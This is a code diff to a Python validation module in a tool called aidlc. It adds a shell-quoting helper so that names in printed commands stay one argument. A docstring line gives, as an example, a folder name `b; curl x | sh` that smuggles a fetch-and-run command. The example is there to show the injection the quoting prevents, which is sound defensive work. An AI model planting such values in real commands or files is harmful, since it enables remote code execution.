@@ -7,11 +7,14 @@
   them escaped (`\\u202e`) on a terminal or in a report.
 * An id becomes a file or folder name (a run's lock, a review's folder): it must be one plain path
   segment, never `..`, a separator, an absolute path or a NUL.
+* A name in a command aidlc prints for a person to paste is one shell argument: quoted when it holds anything a
+  shell reads (a bolt folder named `b; curl x | sh` in a pull request must not print a second command).
 """
 
 from __future__ import annotations
 
 import re
+import shlex
 import unicodedata
 
 from aidlc.errors import UsageError
@@ -104,3 +107,9 @@ def path_segment(value: str, what: str, next_steps: list[str] | None = None) -> 
         raise UsageError(f"{what} '{shown(value)}' {problem}: it cannot name a file or folder",
                          next_steps or ["aidlc validate    # which file holds it"])
     return value
+
+
+def arg(name: str) -> str:
+    """`name` as one shell argument in a printed command: as it is when plain (`001-login`, `intent:shop`), quoted
+    when a shell would read it otherwise."""
+    return shlex.quote(name)
